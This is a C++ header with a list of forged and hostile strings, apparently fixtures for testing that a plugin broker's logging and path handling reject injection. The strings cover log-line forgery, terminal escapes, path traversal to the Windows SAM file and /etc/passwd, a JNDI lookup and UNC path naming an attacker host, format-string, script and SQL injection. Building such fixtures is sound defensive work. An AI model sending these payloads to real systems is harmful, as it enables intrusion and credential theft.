// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <string>
#include <vector>

namespace plugbroker::hostile {

/// Texts that would do harm where they are written down or taken for a path as they are. None is a valid route. Those
/// that look like a line of the log have the word FORGED in what they want to be read.
[[nodiscard]] inline const std::vector<std::string>& forged_texts() {
  static const std::vector<std::string> texts{
      "x\r\n2026-01-01T00:00:00.000Z error FORGED session=1 message=\"the service stops\"\r\n",
      "\" session=1 sid=S-1-5-18 message=\"FORGED",
      "\n{\"level\":\"error\",\"message\":\"FORGED\"}\n",
      "\x1b[2J\x1b[31mFORGED red\x1b[0m\b\b\b",
      std::string("FORGED\0after nul", 16),
      "\xE2\x80\xA8"
      "2026-01-01T00:00:00.000Z error FORGED",  // U+2028
      "\xC2\x85"
      "FORGED",  // U+0085, a line's end for some
      "\xE2\x80\xAE"
      "DEGROF",  // U+202E turns the direction
      "\xFF\xFE\xC0\xAF"
      "FORGED",  // not UTF-8
      R"(..\..\..\Windows\System32\config\SAM:FORGED)",
      R"(\\attacker\share\FORGED)",
      R"(C:\ProgramData\PlugBroker\plugbroker.json)",
      R"(\\.\pipe\PlugBroker.Admin)",
      "%TEMP%/FORGED",
      "../../../etc/passwd\n",
      "%n%s%x FORGED",
      "${jndi:ldap://attacker/FORGED}",
      "<script>FORGED</script>",
      "'; DROP TABLE calls; -- FORGED",
      std::string(255, '\n'),
      std::string(255, '"'),
      " ",
      "\\",
  };
  return texts;
}

}  // namespace plugbroker::hostile
